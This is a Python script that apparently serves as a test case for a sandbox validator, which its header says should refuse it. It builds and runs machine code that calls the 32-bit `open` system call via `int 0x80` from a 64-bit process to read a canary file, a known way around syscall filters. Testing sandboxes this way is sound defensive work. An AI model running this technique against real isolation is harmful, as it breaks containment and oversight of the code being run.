# attack: `int 0x80` makes a 64-bit process use the 32-bit table of calls, where the same number means another call
# expect: validator
# validator: refused
import ctypes
import os
import platform

CANARY = b"CANARY" + b"_7f3a"
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = (ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long)
READ, WRITE, RUN = 1, 2, 4
PRIVATE_ANONYMOUS, LOW = 0x22, 0x40

if platform.machine() != "x86_64":
    raise SystemExit("no such table on this machine")


def ready_made():
    """The two bytes `cd 80` followed by a return, in code that is mapped to run already, if there are any."""
    with open("/proc/self/maps") as maps:
        for line in maps:
            if " r-xp " in line and ".so" in line:
                start, end = (int(part, 16) for part in line.split()[0].split("-"))
                place = ctypes.string_at(start, end - start).find(b"\xcd\x80\xc3")
                if place >= 0:
                    return start + place
    return 0


# mov eax, 5 (open); mov ebx, path; xor ecx, ecx; xor edx, edx; push rbx; int 0x80; pop rbx; ret. The path must lie below 4 GB.
low = libc.mmap(None, 8192, READ | WRITE, PRIVATE_ANONYMOUS | LOW, -1, 0)
if low in (None, ctypes.c_void_p(-1).value):
    raise SystemExit("no low memory")
ctypes.memmove(low, b"@CANARY_FILE@\0", len("@CANARY_FILE@") + 1)
code = b"\x53\xb8\x05\x00\x00\x00\xbb" + low.to_bytes(4, "little") + b"\x31\xc9\x31\xd2\xcd\x80\x5b\xc3"

page = libc.mmap(None, 4096, READ | WRITE | RUN, PRIVATE_ANONYMOUS, -1, 0)
if page in (None, ctypes.c_void_p(-1).value):
    print("no memory to write and run:", os.strerror(ctypes.get_errno()))
    try:
        print("ready-made at", hex(ready_made()))
    except OSError as error:
        print(error)
    raise SystemExit(1)
ctypes.memmove(page, code, len(code))
print("about to enter", flush=True)
fd = ctypes.CFUNCTYPE(ctypes.c_int)(page)()
print("32-bit open gave", fd, flush=True)
if fd >= 0:
    data = os.read(fd, 200)
    if CANARY in data:
        print(f"ESCAPED: read {data!r}", flush=True)
